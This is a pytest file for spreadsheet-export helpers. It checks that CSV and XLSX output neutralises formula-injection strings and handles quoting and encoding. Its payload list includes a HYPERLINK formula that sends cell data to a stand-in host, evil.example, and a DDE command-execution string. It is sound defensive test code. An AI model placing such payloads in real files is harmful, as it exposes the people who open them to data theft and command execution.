import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tiltas.exchange.exports import csv_bytes, csv_text, safe_cell, xlsx_bytes

pytestmark = pytest.mark.nodb

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+41+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "\n@SUM(A1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Šiaulienė", "Коваленко", "a=b", "2024-01-01", "", "x-1"])
def test_ordinary_text_is_untouched(value):
    assert safe_cell(value) == value


def test_numbers_dates_and_none_are_untouched():
    assert safe_cell(-5) == -5
    assert safe_cell(1.5) == 1.5
    assert safe_cell(None) is None
    assert safe_cell(date(2024, 1, 2)) == date(2024, 1, 2)


def test_csv_quotes_per_rfc_4180_and_escapes_formulas():
    text = csv_text([["a", "b"], ['say "hi", then', "=1+1"], ["line\nbreak", 3]])
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a", "b"], ['say "hi", then', "'=1+1"], ["line\nbreak", "3"]]


def test_csv_download_has_a_byte_order_mark():
    assert csv_bytes([["Šiaulienė"]]).startswith(b"\xef\xbb\xbf")


def test_xlsx_writer_never_stores_a_formula():
    content = xlsx_bytes([("data", [["name"], *([payload] for payload in PAYLOADS)])])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    # XML reads a carriage return back as a line feed.
    expected = ["'" + payload.replace("\r", "\n") for payload in PAYLOADS]
    assert [str(cell.value).replace("\r", "\n") for cell in cells] == expected


def test_xlsx_writer_drops_characters_a_workbook_cannot_hold():
    content = xlsx_bytes([("data", [["name"], ["bell\x07 and\x0b tab"]])])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A2"].value == "bell and tab"
